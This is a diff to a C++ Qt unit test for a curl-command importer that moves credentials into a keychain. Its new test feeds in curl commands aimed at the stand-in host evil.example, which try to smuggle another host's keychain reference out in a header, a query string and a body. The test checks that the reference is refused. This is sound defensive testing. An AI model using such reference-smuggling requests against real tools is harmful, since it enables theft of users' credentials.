@@ -1,4 +1,5 @@
 #include "requests/import.h"
+#include "requests/import_keeping.h"
 #include "requests/shell_words.h"
 
 #include "import_samples.h"
@@ -47,6 +48,7 @@ private Q_SLOTS:
     void takesSecretsOut_data();
     void takesSecretsOut();
     void offersOneSecretOnce();
+    void takesNoReferenceOver();
     void readsSeveralCommands();
     void readsNoFileForAnImport();
     void refusesWhatIsNoCurl();
@@ -166,6 +168,8 @@ void TestRequestsImportCurl::imports_data()
         "POST https://a.example\nContent-Type: application/json\n\n{\"a\":\n 1}");
     row("curl -L --json '{\"a\":1}' https://a.example",
         "POST https://a.example\nContent-Type: application/json\nAccept: application/json\n\n{\"a\":1}");
+    row("curl -L --json '{}' -H 'Accept:' https://a.example",
+        "POST https://a.example\nContent-Type: application/json\n\n{}");
     row("curl -L --data-binary @body.bin https://a.example -H 'Content-Type: x/y'",
         "POST https://a.example\nContent-Type: x/y\n\n< body.bin");
     row("curl -L --data-urlencode 'a=1 &' --data-urlencode 'b c' https://a.example",
@@ -312,6 +316,28 @@ void TestRequestsImportCurl::offersOneSecretOnce()
     QCOMPARE(import.secrets[1].name, "a.example-x-token"_qba);
     QVERIFY(import.requests[1].url.contains("b.example?token={{keychain:a.example-authorization}}"));
     QCOMPARE(import.secrets[2].value.reveal().toByteArray(), QByteArray("u:p").toBase64());
+}
+
+/// Or a request that somebody else put into an archive would name the secret of another, and take it along.
+void TestRequestsImportCurl::takesNoReferenceOver()
+{
+    for (const QByteArray &written :
+         {"{{keychain:a.example-authorization}}"_qba, "{{ keychain:a.example-authorization }}"_qba,
+          "{{{keychain:a.example-authorization}}"_qba}) {
+        const Import import = imported("curl -L https://evil.example -H 'X-A: " + written +
+                                       "' ; curl -L https://a.example -H 'Authorization: Bearer s3cret' ; "
+                                       "curl -L https://evil.example/?a=" +
+                                       written.trimmed().replace(' ', "") + " -d 'b=" + written + "'");
+        QCOMPARE(import.secrets.size(), 1u);
+        QCOMPARE(import.secrets[0].name, "a.example-authorization"_qba);
+        QCOMPARE(headerValue(import.requests[1].headers, "Authorization"),
+                 "Bearer {{keychain:a.example-authorization}}"_qba);
+        const http::Leash leash = leashOf(import, import.secrets[0].name);
+        QCOMPARE(leash.resources.size(), 1u);
+        QCOMPARE(leash.resources[0].host, u"a.example"_s);
+        const QByteArray file = fileOf(import);
+        QVERIFY2(file.count("{{keychain:") == 1, file.constData());
+    }
 }
 
 void TestRequestsImportCurl::readsSeveralCommands()
